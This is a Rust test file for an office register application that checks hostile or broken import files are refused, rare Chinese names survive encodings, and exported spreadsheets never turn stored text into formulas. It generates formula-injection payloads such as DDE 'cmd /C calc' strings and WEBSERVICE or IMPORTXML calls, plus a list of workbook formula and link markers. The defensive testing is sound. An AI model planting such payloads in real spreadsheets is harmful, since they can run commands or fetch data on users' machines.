//! What comes in from outside and goes out again: files that mean harm, encodings, texts that a spreadsheet would run.
//! Never a stored hostile file: they are made here.

use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use crate::office::{Folder, Office, text};

/// A workbook of these parts.
fn package(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn workbook(sheet: &str, strings: &str) -> Vec<u8> {
    let spread = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let relation = |id: &str, sort: &str, target: &str| format!(r#"<Relationship Id="{id}" Type="{spread}/{sort}" Target="{target}"/>"#);
    let main = format!("<Relationships>{}</Relationships>", relation("r", "officeDocument", "xl/workbook.xml"));
    let own = format!(
        "<Relationships>{}{}</Relationships>",
        relation("r1", "worksheet", "worksheets/sheet1.xml"),
        relation("r2", "sharedStrings", "sharedStrings.xml")
    );
    package(&[
        ("_rels/.rels", &main),
        ("xl/workbook.xml", r#"<workbook><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>"#),
        ("xl/_rels/workbook.xml.rels", &own),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/sharedStrings.xml", strings),
    ])
}

/// Files that mean harm or are broken, by what they are called in the answer.
fn hostile() -> Vec<(String, Vec<u8>)> {
    let cell = |place: &str| format!(r#"<c r="{place}" t="inlineStr"><is><t>甲</t></is></c>"#);
    let sheet = |rows: &str| format!("<worksheet><sheetData><row>{rows}</row></sheetData></worksheet>");
    let good = workbook(&sheet(&cell("A1")), "<sst/>");
    let mut all: Vec<(String, Vec<u8>)> = vec![
        ("far.xlsx".into(), workbook(&sheet(&(cell("A1") + &cell("XFD1048576"))), "<sst/>")),
        ("bomb.xlsx".into(), workbook(&format!("<worksheet>{}</worksheet>", " ".repeat(40 << 20)), "<sst/>")),
        ("strings.xlsx".into(), workbook(&sheet(&cell("A1")), &format!("<sst>{}</sst>", "<si><t/></si>".repeat(1_100_000)))),
        ("laughs.xlsx".into(), workbook("<!DOCTYPE a [<!ENTITY b \"ha\"><!ENTITY c \"&b;&b;\">]><worksheet>&c;</worksheet>", "<sst/>")),
        ("outside.xlsx".into(), workbook(&sheet(&cell("ZZZZZZ99999999999")), "<sst/>")),
        ("renamed.xlsx".into(), b"MZ\x90\x00 a program".to_vec()),
        ("deep.xls".into(), format!("<html>{}", "<table><tr><td>".repeat(50_000)).into_bytes()),
        ("nul.csv".into(), b"a,b\n\0\0\0,\x01\x02\n".to_vec()),
        ("line.csv".into(), "龘".repeat(35 << 20 >> 1).into_bytes()),
        ("mixed.csv".into(), ["采集日期,内容\n".as_bytes(), b"2026-3-5,\xb2\xc6\xd5\xfe\n", "2026-3-6,财政\n".as_bytes()].concat()),
    ];
    let cut = (1..100).map(|part| (format!("cut{part}.xlsx"), good[..good.len() * part / 100].to_vec()));
    all.extend(cut);
    all
}

/// R-31: refused with a sentence, and the office is as it was.
#[test]
fn files_that_mean_harm_leave_the_office_as_it_was() {
    let mut office = Office::sample();
    let before = (office.entries(), office.state());
    let folder = Folder::new();
    let files = hostile();
    let count = files.len();
    for (name, bytes) in files {
        let file = folder.file(&name);
        std::fs::write(&file, bytes).unwrap();
        let answer = office.answer("preview_import", json!({ "path": file.display().to_string(), "kind": null })).unwrap_err();
        // Lines in two encodings are asked about; whoever does not answer has the same refusal.
        let rule = if name == "mixed.csv" { "mixed" } else { "unreadable" };
        assert_eq!((text(&answer["kind"]), text(&answer["objections"][0]["rule"])), ("refused", rule), "{name}: {answer}");
        assert!(text(&answer["objections"][0]["sentence"]).ends_with('。'), "{name}: {answer}");
        std::fs::remove_file(&file).unwrap();
    }
    assert!(office.call("pending_import", json!({}))["preview"].is_null());
    assert!((office.entries(), office.state()) == before);
    office.assert_sound();
    figures::line("R-31", &format!("files that mean harm: {count} refused in words, the office unchanged"));
}

/// A name from beyond the basic plane, and one that only four bytes of GB18030 hold.
const RARE: &str = "𠳐𬍛㛃";

/// R-32: in, kept, found, printed, out and in again: the same name, byte for byte.
#[test]
fn a_rare_name_goes_through_everything() {
    let folder = Folder::new();
    let table = format!("单位,岗位,姓名\n财政所,所长,{RARE}\n");
    let gb = encode_gb18030(&table);
    let wide: Vec<u8> = [0xfeff].into_iter().chain(table.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let turned: Vec<u8> = [0xfeff].into_iter().chain(table.encode_utf16()).flat_map(u16::to_be_bytes).collect();
    let files = [
        ("utf8.csv", table.clone().into_bytes()),
        ("bom.csv", [b"\xef\xbb\xbf", table.as_bytes()].concat()),
        ("gb.csv", gb),
        ("wide.txt", wide),
        ("turned.txt", turned),
    ];
    let count = figures::count(files.len());
    for (name, bytes) in files {
        let mut office = Office::founded();
        office.create("units", json!({ "code": "U01", "full_name": "七溪坪镇财政所", "short_name": "财政所", "category": "事业站所" }));
        let file = folder.file(name);
        std::fs::write(&file, bytes).unwrap();
        let preview = office.call("preview_import", json!({ "path": file.display().to_string(), "kind": "posts" }));
        office.call("commit_import", json!({ "token": preview["token"], "update_existing": false }));
        let found = office.call("list_records", json!({ "kind": "posts", "search": RARE }));
        assert_eq!(found["total"], 1, "{name}: {preview}");
        let out = folder.file("岗位.xlsx");
        office.call("export_records", json!({ "list": { "kind": "posts" }, "path": out.display().to_string() }));
        let again = office.call("preview_import", json!({ "path": out.display().to_string(), "kind": "posts" }));
        assert_eq!((text(&again["rows"][0]["verdict"]), text(&again["rows"][0]["fields"]["holder"])), ("same", RARE), "{name}");
        let person = office.find("persons", "name", RARE);
        let words = office.call("preview_words", json!({ "paper": "handover_list", "person": person }));
        assert!(words.to_string().contains(RARE), "{name}: the paper names the person");
    }
    let way = "in, kept, found, on paper, out and in again";
    figures::line(
        "R-32",
        &format!("encodings: {count} with a name beyond the basic plane, {way}, each equal; two in one file are asked about"),
    );
}

/// R-32: lines in two encodings are never guessed at in silence: the person is asked, and sees each line that was.
#[test]
fn a_file_in_two_encodings_is_asked_about() {
    let mut office = Office::founded();
    office.create("units", json!({ "code": "U01", "full_name": "七溪坪镇财政所", "short_name": "财政所", "category": "事业站所" }));
    let folder = Folder::new();
    let file = folder.file("两种编码.csv");
    let gb = encode_gb18030(&format!("财政所,出纳,{RARE}\n"));
    let bytes = ["单位,岗位,姓名\n财政所,所长,谢某某\n".as_bytes(), &gb, "财政所,会计,\"两行\n的字\"\n".as_bytes()].concat();
    std::fs::write(&file, bytes).unwrap();
    let request = |mixed: bool| json!({ "path": file.display().to_string(), "kind": "posts", "mixed": mixed });
    let asked = office.answer("preview_import", request(false)).unwrap_err();
    let sentence = text(&asked["objections"][0]["sentence"]);
    assert!(sentence.contains("有 1 行") && sentence.contains(&format!("第 3 行读作“财政所,出纳,{RARE}”")), "{asked}");
    let preview = office.call("preview_import", request(true));
    let verdicts: Vec<&str> = preview["rows"].as_array().unwrap().iter().map(|row| text(&row["verdict"])).collect();
    assert_eq!(verdicts, ["enter", "confirm", "enter"], "{preview}");
    assert_eq!(preview["rows"][1]["fields"]["holder"], RARE);
    assert!(preview["rows"][1]["reasons"].to_string().contains("请核对文字"), "{preview}");
}

/// GB18030 of a text, by the tables of the system: what no table of ours wrote.
fn encode_gb18030(text: &str) -> Vec<u8> {
    let mut child = Command::new("iconv")
        .args(["-f", "UTF-8", "-t", "GB18030"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    child.wait_with_output().unwrap().stdout
}

/// Sixty texts that a spreadsheet would run, follow or fetch if they stood there as anything but text.
fn payloads() -> Vec<String> {
    let heads = ["=", "+", "-", "@", "＝", "\t=", "\r=", "'=", "\"=", " ="];
    let tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com\",\"点我\")",
        "WEBSERVICE(\"http://example.com\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    ];
    heads.iter().flat_map(|head| tails.iter().map(move |tail| format!("{head}{tail}"))).collect()
}

/// What a record of a register needs besides its free texts, where `{at}` is its number; and texts that have a form
/// of their own, which a payload does not have.
const BASES: &[(&str, &str, &[&str])] = &[
    ("units", r#"{"code":"V{at}","full_name":"第{at}村","short_name":"第{at}村","category":"行政村"}"#, &[]),
    ("posts", r#"{"code":"P{at}","unit":"财政所","name":"第{at}岗"}"#, &[]),
    ("duties", r#"{"task":"第{at}项","year":"2026","requirement":"第{at}项"}"#, &["dates"]),
    ("powers", r#"{"code":"XK{at}","name":"第{at}项审批","kind":"行政许可","clearing":"取消"}"#, &["process", "discretion", "basis_check"]),
    ("risks", r#"{"number":"R{at}","layer":"单位职能","unit":"财政所","kind":"制度机制风险","grade":"高"}"#, &["step", "abolish_reason"]),
    ("signals", r#"{"number":"Y{at}","collected_on":"4月1日","point":"财政所","source":"审计","unit":"财政所","object":"出纳"}"#, &[]),
];

/// R-33: every text field of a register out to xlsx and csv: text and nothing else, and the same again when read in.
#[test]
fn stored_text_never_becomes_a_formula_or_a_link() {
    let mut office = Office::founded();
    office.create("units", json!({ "code": "U01", "full_name": "七溪坪镇财政所", "short_name": "财政所", "category": "事业站所" }));
    let payloads = payloads();
    assert_eq!(payloads.len(), 60);
    let shapes = office.call("shapes", json!({}));
    let texts_of = |kind: &str| -> Vec<String> {
        let shape = shapes["registers"].as_array().unwrap().iter().find(|shape| shape["kind"] == kind).unwrap();
        let fields = shape["fields"].as_array().unwrap().iter();
        let free = |field: &&Value| ["text", "long_text"].contains(&text(&field["input"])) && field["read_only"] == false;
        fields.filter(free).map(|field| text(&field["key"]).to_owned()).collect()
    };
    let folder = Folder::new();
    for (kind, base, formed) in BASES {
        for (at, payload) in payloads.iter().enumerate() {
            let mut record: Value = serde_json::from_str(&base.replace("{at}", &format!("{at:03}"))).unwrap();
            for key in texts_of(kind) {
                if record.get(&key).is_none() && !formed.contains(&key.as_str()) {
                    // A list of names comes back as a list: what stands between two names is not text.
                    let list = ["responsible_units", "supporting_units"].contains(&key.as_str());
                    record[key] = json!(if list { payload.replace(['/', ','], "") } else { payload.clone() });
                }
            }
            office.create(kind, record);
        }
        for format in ["xlsx", "csv"] {
            let file = folder.file(&format!("{kind}.{format}"));
            office.call("export_records", json!({ "list": { "kind": kind }, "path": file.display().to_string() }));
            if format == "xlsx" {
                only_text(&file);
            }
            let preview = office.call("preview_import", json!({ "path": file.display().to_string(), "kind": kind }));
            let changed: Vec<&Value> = preview["rows"].as_array().unwrap().iter().filter(|row| row["verdict"] != "same").collect();
            assert!(changed.is_empty(), "{kind} {format}: {} {changed:#?}", preview["summary"]);
        }
        let printed = json!({ "of": "paper", "request": { "paper": "list", "list": { "kind": kind } } });
        let file = folder.file(&format!("{kind}-printed.xlsx"));
        office.call("save_copy", json!({ "source": printed, "path": file.display().to_string() }));
        only_text(&file);
        literal(&folder, kind, &payloads);
    }
    figures::line(
        "R-33",
        &format!("formulas in texts: {} payloads in every text field, 0 formulas, 0 links, the same again when read in", payloads.len()),
    );
}

/// No formula, no link, nothing outside in any part of a workbook.
fn only_text(file: &Path) {
    let mut archive = ZipArchive::new(std::fs::File::open(file).unwrap()).unwrap();
    for at in 0..archive.len() {
        let mut entry = archive.by_index(at).unwrap();
        let mut content = String::new();
        entry.read_to_string(&mut content).unwrap();
        for sign in ["<f>", "<f ", "<hyperlink", "externalLink", "ddeLink", "TargetMode=\"External\""] {
            assert!(!content.contains(sign), "{sign} in {}", file.display());
        }
    }
}

/// LibreOffice opens it and shows every payload as it was typed. Where it is not installed, that is said.
fn literal(folder: &Folder, kind: &str, payloads: &[String]) {
    let profile = format!("-env:UserInstallation=file://{}", folder.file("profile").display());
    let filter = "csv:Text - txt - csv (StarCalc):44,34,76";
    let done = Command::new("soffice")
        .args([&profile, "--headless", "--convert-to", filter, "--outdir"])
        .arg(folder.file("shown"))
        .arg(folder.file(&format!("{kind}.xlsx")))
        .output();
    let Ok(done) = done else {
        println!("LibreOffice is not installed: what it shows was not looked at");
        return;
    };
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let shown = std::fs::read_to_string(folder.file("shown").join(format!("{kind}.csv"))).unwrap().replace("\"\"", "\"");
    for payload in payloads {
        let kept = payload.trim_matches(['\t', '\r', ' ']);
        assert!(shown.contains(kept), "{kind}: {payload:?} is not shown as it stands");
    }
}
